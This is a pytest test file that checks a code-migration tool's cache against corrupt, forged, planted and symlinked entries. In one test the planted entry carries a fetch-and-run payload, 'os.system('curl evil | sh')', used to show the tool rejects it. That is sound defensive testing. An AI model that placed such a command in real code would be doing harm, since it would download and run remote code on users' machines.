"""The cache only ever costs time: a corrupt, planted or symlinked cache never writes a byte or
turns a refusal into a rewrite (issue 20)."""

import base64
import hashlib
import hmac
import json
import os
import shutil
from pathlib import Path

import pytest
from cli_runner import invoke

from mtp_migrate import cache
from mtp_migrate.cache import SCHEMAS, Cache, fits
from mtp_migrate.runner import migrate_file

ROOT = Path(__file__).parents[1]
BEFORE = ROOT / "fixtures" / "pipelines" / "before"
REFUSED = ROOT / "fixtures" / "adversarial" / "unsound" / "seqlen_from_input_ids.py"  # MTP202 by the verifier


def _project(tmp_path: Path, *files: Path) -> Path:
    (tmp_path / ".git").mkdir(parents=True)
    for file in files:
        shutil.copy(file, tmp_path / f"run_{file.stem.removeprefix('run_')}.py")
    return tmp_path


def _entries(root: Path, kind: str) -> list[Path]:
    return sorted((root / cache.DIRECTORY / cache.VERSION / kind).rglob("*.json"))


def _apply(root: Path, *options: str) -> dict:
    result = invoke("apply", ".", "--json", "--jobs", "1", *options, cwd=root)
    return {"exit": result.exit_code, **json.loads(result.output)}


@pytest.fixture
def expected(tmp_path_factory) -> bytes:
    """run_baseline.py as a migration without any cache writes it."""
    root = _project(tmp_path_factory.mktemp("fresh"), BEFORE / "run_baseline.py")
    return migrate_file(root / "run_baseline.py", cache=False).output


CORRUPT = [b'{"output": "!!!!", "sites": []}', b"{}", b"[]", b'{"output": 5}', b"\xff\x00garbage", b"",
           b"[" * 100_000, b'{"output": "", "sha256": "", "sites": []}']


@pytest.mark.parametrize("signed", [False, True], ids=["as-is", "signed"])
@pytest.mark.parametrize("content", CORRUPT, ids=range(len(CORRUPT)))
def test_a_corrupt_file_entry_is_a_miss(tmp_path, expected, content, signed):
    """As found on disk, or signed with the user's own key (as a bug of ours or an older version would)."""
    root = _project(tmp_path, BEFORE / "run_baseline.py")
    assert invoke("check", ".", "--jobs", "1", cwd=root).exit_code == 1  # fills the cache
    for entry in _entries(root, "files"):
        entry.write_bytes(_sign(_user_key(), "files", entry.stem, content) if signed else content)
    result = _apply(root)
    assert result["exit"] == 0, result
    assert (root / "run_baseline.py").read_bytes() == expected


def _sign(key: bytes, kind: str, name: str, payload: bytes) -> bytes:
    """An entry as the cache signs it, with ``key``: the user's own (a bug of ours) or an attacker's."""
    message = b"\0".join((cache.VERSION.encode(), kind.encode(), name.encode(), payload))
    return hmac.new(key, message, hashlib.sha256).hexdigest().encode() + b"\n" + payload


def _forge(entry: Path, kind: str, value, key: bytes) -> None:
    entry.write_bytes(_sign(key, kind, entry.stem, json.dumps(value).encode()))


def test_a_planted_file_entry_never_writes_its_output(tmp_path, expected):
    root = _project(tmp_path, BEFORE / "run_baseline.py")
    assert invoke("check", ".", "--jobs", "1", cwd=root).exit_code == 1
    planted = b"import os\nos.system('curl evil | sh')\n"
    value = {"output": base64.b64encode(planted).decode(), "sha256": hashlib.sha256(planted).hexdigest(),
             "sites": [{"line": 25, "action": "rewritten", "code": None, "reason": None, "verified": True}]}
    for entry in _entries(root, "files"):
        unsigned = entry.read_bytes().partition(b"\n")[0] + b"\n" + json.dumps(value).encode()  # the old signature
        entry.write_bytes(unsigned)
    assert (root / "run_baseline.py").read_bytes() != planted
    _apply(root)
    assert (root / "run_baseline.py").read_bytes() == expected
    for entry in _entries(root, "files"):
        _forge(entry, "files", value, key=b"k" * cache.KEY_BYTES)  # signed, with a key that is not the user's
    (root / "run_baseline.py").write_bytes((BEFORE / "run_baseline.py").read_bytes())
    _apply(root)
    assert (root / "run_baseline.py").read_bytes() == expected


def test_a_planted_verdict_never_turns_a_refusal_into_a_rewrite(tmp_path):
    root = _project(tmp_path, REFUSED)
    first = _apply(root)
    assert [s["code"] for s in first["files"][0]["sites"]] == ["MTP202"]
    assert (root / "run_seqlen_from_input_ids.py").read_bytes() == REFUSED.read_bytes()
    verdicts = _entries(root, "sites")
    assert verdicts
    for entry in verdicts:
        signature, _, payload = entry.read_bytes().partition(b"\n")
        forged = {**json.loads(payload), "ok": True, "code": None, "reason": None}
        entry.write_bytes(signature + b"\n" + json.dumps(forged).encode())
    for entry in _entries(root, "files"):
        entry.unlink()
    second = _apply(root)
    assert [s["code"] for s in second["files"][0]["sites"]] == ["MTP202"]
    assert (root / "run_seqlen_from_input_ids.py").read_bytes() == REFUSED.read_bytes()


def _user_key() -> bytes:
    return (cache.key_folder() / "key").read_bytes()


def test_an_entry_signed_with_the_users_key_must_still_fit_its_schema_hash_and_syntax(tmp_path, expected):
    root = _project(tmp_path, BEFORE / "run_baseline.py")
    assert invoke("check", ".", "--jobs", "1", cwd=root).exit_code == 1
    [entry] = _entries(root, "files")
    good = json.loads(entry.read_bytes().partition(b"\n")[2])
    broken = b"def (:\n"
    for value in ({**good, "sites": [{"line": "25"}]},  # wrong shape
                  {**good, "sha256": "0" * 64},  # the output is not what was stored
                  {**good, "output": base64.b64encode(broken).decode(),
                   "sha256": hashlib.sha256(broken).hexdigest()}):  # it does not parse
        _forge(entry, "files", value, key=_user_key())
        (root / "run_baseline.py").write_bytes((BEFORE / "run_baseline.py").read_bytes())
        assert _apply(root)["exit"] == 0
        assert (root / "run_baseline.py").read_bytes() == expected


def test_the_schemas_take_what_the_tool_stores():
    from dataclasses import asdict

    from mtp_migrate.verify.worker import Verdict

    assert fits(asdict(Verdict(3, True, None, None, 40, ["Case()"])), SCHEMAS["sites"])
    assert fits(asdict(Verdict(3, False, "MTP202", "MTP202: it raises", 0)), SCHEMAS["sites"])
    assert not fits(asdict(Verdict(3, False, None, None, 0)), SCHEMAS["sites"])
    assert not fits({"line": True, "ok": True, "code": None, "reason": None, "cases": 1, "compared": []},
                    SCHEMAS["sites"])


def test_the_key_is_the_users_own_and_kept_outside_the_repository(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    store = Cache(tmp_path)
    assert store.problem is None
    key = tmp_path / "xdg" / "mtp-migrate" / "key"
    assert key.stat().st_mode & 0o777 == 0o600 and (tmp_path / "xdg" / "mtp-migrate").stat().st_mode & 0o777 == 0o700
    store.put("sites", "ab" * 32, {"x": 1})
    assert not list(tmp_path.glob(f"{cache.DIRECTORY}/**/key"))


@pytest.mark.parametrize("linked", ["folder", "key"])
def test_a_symlinked_key_folder_or_key_turns_the_cache_off(tmp_path, monkeypatch, linked):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir(mode=0o700)
    (elsewhere / "key").write_bytes(b"k" * cache.KEY_BYTES)
    (elsewhere / "key").chmod(0o600)
    xdg = tmp_path / "xdg"
    (xdg / "mtp-migrate").mkdir(parents=True)
    if linked == "folder":
        (xdg / "mtp-migrate").rmdir()
        (xdg / "mtp-migrate").symlink_to(elsewhere)
    else:
        (xdg / "mtp-migrate").chmod(0o700)
        (xdg / "mtp-migrate" / "key").symlink_to(elsewhere / "key")
    monkeypatch.setenv("XDG_CACHE_HOME", str(xdg))
    store = Cache(tmp_path)
    assert store.problem and store.problem.startswith("nothing is cached:")
    store.put("sites", "ab" * 32, {"x": 1})
    assert not (tmp_path / cache.DIRECTORY).exists()


@pytest.mark.parametrize("linked", [cache.DIRECTORY, f"{cache.DIRECTORY}/{cache.VERSION}"])
def test_a_symlinked_cache_folder_is_never_written_through_and_said(tmp_path, expected, linked):
    root = _project(tmp_path / "repo", BEFORE / "run_baseline.py")
    outside = tmp_path / "outside"
    outside.mkdir()
    (root / linked).parent.mkdir(parents=True, exist_ok=True)
    (root / linked).symlink_to(outside)
    result = invoke("apply", ".", "--jobs", "1", cwd=root)
    assert result.exit_code == 0, result.output
    assert (root / "run_baseline.py").read_bytes() == expected
    assert not list(outside.iterdir())
    if linked == cache.DIRECTORY:
        assert f"note: nothing is cached: {root / cache.DIRECTORY} is a symlink (not followed)" in result.output


def test_an_entry_that_is_not_a_regular_file_is_a_miss(tmp_path, expected):
    root = _project(tmp_path, BEFORE / "run_baseline.py")
    assert invoke("check", ".", "--jobs", "1", cwd=root).exit_code == 1
    for entry in _entries(root, "files"):
        entry.unlink()
        os.mkfifo(entry)  # reading it would block forever
    assert _apply(root)["exit"] == 0
    assert (root / "run_baseline.py").read_bytes() == expected
